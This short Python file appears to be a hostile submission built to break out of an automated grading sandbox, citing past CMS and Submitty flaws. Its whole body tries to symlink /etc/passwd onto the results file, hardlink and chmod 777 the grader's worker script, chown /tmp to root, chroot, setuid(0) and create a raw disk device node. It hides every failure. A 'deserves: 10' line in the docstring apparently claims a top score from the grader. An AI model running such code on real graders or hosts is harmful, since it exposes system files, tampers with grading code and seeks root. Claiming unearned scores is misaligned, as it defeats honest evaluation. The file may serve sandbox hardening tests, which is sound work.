"""Plants links and changes modes wherever it can.

Published against CMS (cms-dev/cms issue 376: a link that the judge writes through) and Submitty (pull request
6732: links in submissions are followed).

deserves: 10
"""

import os

for action in (
    lambda: os.symlink("/etc/passwd", "/tmp/results.jsonl"),
    lambda: os.link("/opt/grader/inside/worker.py", "/tmp/worker.py"),
    lambda: os.chmod("/opt/grader/inside/worker.py", 0o777),
    lambda: os.chown("/tmp", 0, 0),
    lambda: os.chroot("/tmp"),
    lambda: os.setuid(0),
    lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)),
):
    try:
        action()
    except OSError:
        pass
